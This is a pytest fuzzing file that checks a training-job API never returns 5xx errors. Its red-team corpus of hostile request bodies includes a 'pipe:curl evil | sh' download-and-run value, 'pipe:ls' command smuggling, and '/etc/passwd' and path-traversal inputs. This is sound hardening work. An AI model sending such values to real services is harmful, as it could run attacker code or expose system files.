"""Schemathesis fuzzing of the OpenAPI schema against the real server: no input, valid or not,
gets a 5xx, and every error is the service's JSON error shape."""

from __future__ import annotations

import httpx
import pytest
import schemathesis
from hypothesis import HealthCheck, given, settings
from service_harness import ServerProcess

from service.store import Store


@pytest.fixture(scope="module")
def fuzz_server(tmp_path_factory):
    data_dir = tmp_path_factory.mktemp("fuzz")
    database_url = f"sqlite:///{data_dir / 'topk.db'}"
    store = Store.from_url(database_url)
    store.migrate()
    token = store.create_token("fuzzer")
    env = {"TOPK_DATA_DIR": str(data_dir), "TOPK_DATABASE_URL": database_url,
           "TOPK_LAUNCH_MODE": "hold", "TOPK_ALLOWED_ROOTS": "/tmp"}  # fmt: skip
    server = ServerProcess(env, data_dir / "server.log").start()
    yield server, token
    server.stop()
    store.close()


def _operations(url: str):
    schema = schemathesis.openapi.from_url(f"{url}/openapi.json")
    return [result.ok() for result in schema.get_all_operations()]


def test_the_schema_covers_every_route(fuzz_server):
    server, _ = fuzz_server
    routes = {(op.method.upper(), op.path) for op in _operations(server.url)}
    assert ("POST", "/v1/jobs") in routes and ("POST", "/v1/sweeps/{job_id}/cancel") in routes
    assert len(routes) >= 15


def test_no_input_makes_the_server_fail(fuzz_server):
    """Every operation, 25 generated cases each (valid and invalid), with and without a token."""
    server, token = fuzz_server
    for operation in _operations(server.url):

        @given(case=operation.as_strategy())
        @settings(max_examples=25, deadline=None, database=None,
                  suppress_health_check=list(HealthCheck))  # fmt: skip
        def check(case):
            for headers in ({"Authorization": f"Bearer {token}"}, {}):
                response = case.call(base_url=server.url, headers=headers, timeout=30)
                assert response.status_code < 500, (
                    case.path, response.status_code, response.text[:500],
                )  # fmt: skip
                if response.status_code >= 400:
                    body = response.json()
                    assert set(body) == {"error", "message", "errors"}, body
                    assert "Traceback" not in response.text

        check()


def _spec(**overrides) -> dict:
    spec = {"data": {"train": "/tmp/fuzz/train-{000..001}.tar", "num_classes": 10},
            "loss": {"name": "cross_entropy"}, "epochs": 1}  # fmt: skip
    spec.update(overrides)
    return spec


# What the red team sent (service hardening): malformed and hostile bodies, each must get a 4xx
# with the error shape, never a 5xx, a dropped connection or a stalled server.
HOSTILE_BODIES: list[tuple[str, bytes | str]] = [
    ("application/json", b"[" * 100_000 + b"]" * 100_000),
    ("application/json", b'{"a":' * 5_000),
    ("application/json", b'{"seed": ' + b"9" * 5_000 + b"}"),
    ("application/json", b'{"data": {}, "data": {}}'),
    ("application/json", b"\xff\xfe not utf-8"),
    ("application/json", b""),
    ("application/json", b"null"),
    ("application/json", b'"a string"'),
    ("text/plain", b'{"data": {"train": "/tmp/x.tar", "num_classes": 10}}'),
    ("application/x-www-form-urlencoded", b"data=1&loss=2"),
    ("application/json", _spec(data={"train": "/tmp/fuzz/x-{0..99999999}.tar", "num_classes": 10})),
    (
        "application/json",
        _spec(
            data={
                "train": "/tmp/fuzz/x-{0..9}{0..9}{0..9}{0..9}{0..9}{0..9}.tar",
                "num_classes": 10,
            }
        ),
    ),  # fmt: skip
    ("application/json", _spec(data={"train": "/tmp/fuzz/x-{0..1{2..3}}.tar", "num_classes": 10})),
    ("application/json", _spec(data={"train": "pipe:curl evil | sh", "num_classes": 10})),
    ("application/json", _spec(data={"train": "file:///etc/passwd", "num_classes": 10})),
    ("application/json", _spec(data={"train": "/tmp/../etc/x.tar", "num_classes": 10})),
    ("application/json", _spec(seed=2**70)),
    ("application/json", _spec(checkpoint={"keep_last": 2**62})),
    ("application/json", _spec(scaling={"num_workers": 10_000, "use_gpu": True})),
    ("application/json", _spec(scaling={"cpus_per_worker": 1e308})),
    ("application/json", _spec(storage="https://example.com/runs")),
    ("application/json", _spec(storage="/etc/passwd")),
    ("application/json", _spec(model={"pretrained": "pipe:ls"})),
    (
        "application/json",
        '{"data": {"train": "/tmp/x.tar", "num_classes": 10}, '
        '"data": {"train": "/tmp/y.tar", "num_classes": 10}}',
    ),  # fmt: skip
    (
        "application/json",
        '{"data": {"train": "/tmp/x.tar", "num_classes": 10, '
        '"augment": {"mean": [NaN], "std": [Infinity]}}}',
    ),  # fmt: skip
]


def test_hostile_bodies_never_make_the_server_fail(fuzz_server):
    import json

    server, token = fuzz_server
    requests = server_errors = 0
    with httpx.Client(base_url=server.url, timeout=60) as http:
        for path in ("/v1/jobs", "/v1/sweeps"):
            for content_type, body in HOSTILE_BODIES:
                if isinstance(body, dict):
                    body = json.dumps({"train": body, "search": {}} if "sweeps" in path else body)
                for headers in ({"Authorization": f"Bearer {token}"}, {}):
                    response = http.post(
                        path, content=body, headers={**headers, "Content-Type": content_type}
                    )
                    requests += 1
                    server_errors += response.status_code >= 500
                    assert 400 <= response.status_code < 500, (body[:200], response.text[:300])
                    assert set(response.json()) == {"error", "message", "errors"}
        assert http.get("/healthz").status_code == 200  # and the server still answers
    print(f"\nhostile corpus: {requests} requests, {server_errors} answered 5xx")
    assert server_errors == 0
